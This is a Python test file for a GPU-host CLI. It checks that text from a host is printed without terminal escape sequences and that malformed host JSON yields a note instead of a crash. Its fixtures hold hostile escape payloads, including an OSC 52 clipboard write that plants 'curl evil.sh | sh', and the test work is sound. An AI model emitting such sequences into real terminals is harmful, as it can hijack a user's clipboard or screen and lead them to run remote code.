"""Host text is data (issue #27, part 5): what a host says (a stopped marker's reason, podctl's
answers, a log tail, a cache listing, an error) reaches the terminal with no escape sequence, and a
forged or malformed host file is a note or one line, never a traceback; ``--json`` stays valid JSON."""

import json
import math

import click
import pytest
from click.testing import CliRunner

from podkit.client.status import describe, host_status, parse_status
from podkit.host.shell import Result
from podkit.text import clean
from podkit_cli import Podkit, cli
from podkit_cli.hosts import Host
from tests.helpers import settings
from tests.unit.test_status import HOST_NOW, STOPPED_SERVER, podctl_status, watcher

CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write "curl evil.sh | sh" to the clipboard
TITLE_ST = "\x1b]0;pwned\x1b\\"

CLEANED = {
    "plain text is kept": ("no request for 30 min", False, "no request for 30 min"),
    "a screen clear": (f"{CLEAR}stopped", False, "stopped"),
    "a clipboard write ended by BEL": (f"idle{CLIPBOARD} stop", False, "idle stop"),
    "a title ended by ST": (f"{TITLE_ST}down", False, "down"),
    "8-bit CSI and OSC": ("a\x9b31mred\x9d52;c;eA==\x9cb", False, "aredb"),
    "a DCS string": ("x\x1bPq#0;2;0;0;0\x1b\\y", False, "xy"),
    "colours and cursor moves": ("\x1b[31;1mred\x1b[0m \x1b[3A\x1b[Kup", False, "red up"),
    "an unterminated OSC ends at the line's end": ("a\x1b]52;c;AAAA\nb", True, "a\nb"),
    "a carriage return cannot overwrite the line": ("ok\rFAIL", False, "okFAIL"),
    "C0, DEL and C1 controls go, a tab stays": ("a\x00\x07\x08\x7f\x85\x81b\tc", False, "ab\tc"),
    "bidi overrides go": ("safe \u202eevil\u202c \u2066x\u2069", False, "safe evil x"),
    "a lone escape and a two-byte escape": ("a\x1bcb\x1b", False, "ab"),
    "one line: a newline becomes a space": ("line 1\r\nline 2", False, "line 1 line 2"),
    "a log tail keeps its newlines": ("line 1\r\nline 2\n", True, "line 1\nline 2\n"),
    "None is empty": (None, False, ""),
}


@pytest.mark.parametrize("text, lines, expected", CLEANED.values(), ids=CLEANED.keys())
def test_clean_strips_every_escape_and_control(text, lines, expected):
    assert clean(text, lines=lines) == expected


HOSTILE_WHY = f"{CLEAR}{CLIPBOARD}no request for 30 min{TITLE_ST}\rall good"


def escapes(text: str) -> list[str]:
    return [c for c in text if c in "\x1b\x07\r\x9b\x9d" or (ord(c) < 32 and c not in "\n\t")]


def test_status_prints_a_hostile_marker_reason_as_text_and_json_keeps_it():
    marker = {"by": "idle\x1b[8m", "at": HOST_NOW - 60, "why": HOSTILE_WHY}
    remote = podctl_status(**STOPPED_SERVER, stopped=marker)
    status = host_status("box-1", settings(), remote, None, HOST_NOW)
    said = "\n".join(describe(status, "inventories/baremetal.py"))
    assert escapes(said) == [], repr(said)
    assert "stopped on purpose: no request for 30 minall good" in said
    assert json.loads(json.dumps(status.as_dict()))["stopped"]["why"] == HOSTILE_WHY  # the data, escaped


FORGED = {
    "a marker that is a list": dict(stopped=[1, 2]),
    "a marker that is text": dict(stopped="stopped!"),
    "a marker time that is text": dict(stopped={"by": "idle", "at": "yesterday", "why": "x"}),
    "a marker time that is NaN": dict(stopped={"by": "idle", "at": math.nan}),
    "a marker time that is infinite": dict(stopped={"by": "idle", "at": -math.inf}),
    "a marker time past any clock": dict(stopped={"by": "idle", "at": 10**400}),
    "a marker with no reason": dict(stopped={"at": HOST_NOW}),
    "an idle state that is a list": dict(idle=["up"]),
    "an idle deadline that is text": dict(idle=watcher(deadline="soon")),
    "an idle time that is NaN": dict(idle=watcher(idle_stop_seconds=math.nan)),
    "an idle time that is infinite": dict(idle=watcher(idle_stop_seconds=math.inf, deadline=math.inf)),
    "a deadline past any clock": dict(idle=watcher(deadline=1e300)),
    "in-flight requests that are text": dict(idle=watcher(in_flight="many")),
    "served models that are an object": dict(served={"health": 200, "models": {"a": 1}, "max_model_len": "big"}),
    "the host's clock that is text": dict(now="noon", vllm_started_at=True),
    "a plan and start log that are not": dict(plan={"predicted": {"kv_cache_tokens": "many"}}, startup=[1, None]),
    "programs that are a list": dict(programs=["vllm"]),
}


@pytest.mark.parametrize("changes", FORGED.values(), ids=FORGED.keys())
def test_a_forged_host_file_is_a_note_never_a_traceback_and_json_stays_valid(changes):
    remote = podctl_status(**changes)
    status = host_status("box-1", settings(podkit_usd_per_hour=1.0), remote, None, HOST_NOW)
    lines = describe(status, "inventories/baremetal.py")
    assert lines[0].startswith("box-1: ")
    json.loads(json.dumps(status.as_dict(), allow_nan=False))  # what status --json prints: valid JSON
    assert all("\n" not in line for line in lines)


def test_a_forged_number_is_named_in_a_note():
    remote = podctl_status(**STOPPED_SERVER, stopped={"by": "idle", "at": "yesterday", "why": "idle"})
    status = host_status("box-1", settings(), remote, None, HOST_NOW)
    assert status.state == "stopped" and status.since is None
    assert any("ignored the stopped marker's time: 'yesterday' is not a finite number" in n for n in status.notes)


def test_podctl_json_with_nan_gives_valid_status_json():
    """json.loads reads NaN and Infinity; what status --json prints must still be JSON."""
    output = json.dumps(podctl_status(idle=watcher(deadline=math.nan, last_request_at=math.inf)))
    assert "NaN" in output
    status = host_status("box-1", settings(), parse_status(output), None, HOST_NOW)
    json.loads(json.dumps(status.as_dict(), allow_nan=False))
    assert status.idle_stop_in_minutes is None and status.minutes_since_request is None


# --- through the CLI: status, down, cache and any error message ------------------------------


class FakeHost(Host):
    """A host whose commands answer ``stdout``/``stderr`` without SSH."""

    def __init__(self, name, stdout, stderr="", status=0):
        super().__init__(name, {}, settings=settings())
        self.answer = Result(status, stdout, stderr)

    def run(self, command, timeout=120):
        return self.answer

    def disconnect(self):
        pass


def with_host(monkeypatch, host, *modules):
    for module in modules:
        monkeypatch.setattr(f"podkit_cli.{module}.load_hosts", lambda inventory, names=(): [host])


def test_status_through_the_cli_prints_no_escape_and_its_json_is_valid(monkeypatch):
    remote = podctl_status(**STOPPED_SERVER, stopped={"by": "idle", "at": math.nan, "why": HOSTILE_WHY})
    with_host(monkeypatch, FakeHost("box-1", json.dumps(remote)), "lifecycle")
    said = CliRunner().invoke(cli, ["status", "inventories/baremetal.py"])
    assert said.exit_code == 0 and escapes(said.output) == [], repr(said.output)
    assert "stopped on purpose: no request for 30 min" in said.output
    as_json = CliRunner().invoke(cli, ["status", "inventories/baremetal.py", "--json"])
    assert json.loads(as_json.output)["box-1"]["stopped"]["why"] == HOSTILE_WHY


DOWN = {
    "a hostile answer": (json.dumps({"ok": True, "done": f"stopped vLLM{CLIPBOARD}"}), "stopped vLLM; start it", 0),
    "a hostile error": (json.dumps({"ok": False, "error": f"{CLEAR}busy"}), "cannot stop the server: busy", 1),
    "JSON that is not an object": ("[1, 2]", "podctl down answered something else: [1, 2]", 1),
    "an object without done": ('{"ok": true}', "box-1: None; start it", 0),
    "a traceback on stdout": (f"Traceback\x1b[2J\nKeyError: {TITLE_ST}'x'", "KeyError: 'x'", 1),
}


@pytest.mark.parametrize("stdout, says, code", DOWN.values(), ids=DOWN.keys())
def test_down_prints_the_hosts_answer_as_one_clean_line(monkeypatch, stdout, says, code):
    with_host(monkeypatch, FakeHost("box-1", stdout), "lifecycle")
    said = CliRunner().invoke(cli, ["down", "inventories/baremetal.py"])
    assert said.exit_code == code and says in said.output, said.output
    assert escapes(said.output) == [] and said.exception is None or isinstance(said.exception, SystemExit)


CACHE = {
    "a hostile listing": (
        json.dumps(
            {
                "repos": {f"Qwen/x{CLIPBOARD}": 10**9},
                "problems": [
                    {"kind": "partial", "bytes": 10**6, "removed": False, "in_use": False, "path": f"/w/{CLEAR}p"}
                ],
                "free_bytes": 10**10,
                "freed_bytes": 0,
            }
        ),
        ["Qwen/x", "/w/p"],
    ),
    "a listing that is not JSON": (f"oops{CLEAR}", ["podctl cache printed no JSON: oops"]),
    "a listing of the wrong shape": ('{"repos": [1]}', ["podctl cache answered something else"]),
}


@pytest.mark.parametrize("stdout, says", CACHE.values(), ids=CACHE.keys())
def test_cache_prints_the_hosts_listing_as_text_and_a_bad_one_in_one_line(monkeypatch, stdout, says):
    with_host(monkeypatch, FakeHost("box-1", stdout), "cache")
    said = CliRunner().invoke(cli, ["cache", "ls", "inventories/baremetal.py"])
    assert said.exception is None or isinstance(said.exception, SystemExit), said.exception
    assert escapes(said.output) == [], repr(said.output)
    for part in says:
        assert part in said.output, said.output


def test_an_error_message_from_the_host_is_printed_as_text():
    @click.group(cls=Podkit)
    def group():
        pass

    @group.command()
    def fail():
        raise click.ClickException(f"box-1: cannot run the command over SSH ({CLIPBOARD}{CLEAR}refused)")

    said = CliRunner().invoke(group, ["fail"])
    assert said.exit_code == 1 and said.output == "Error: box-1: cannot run the command over SSH (refused)\n"
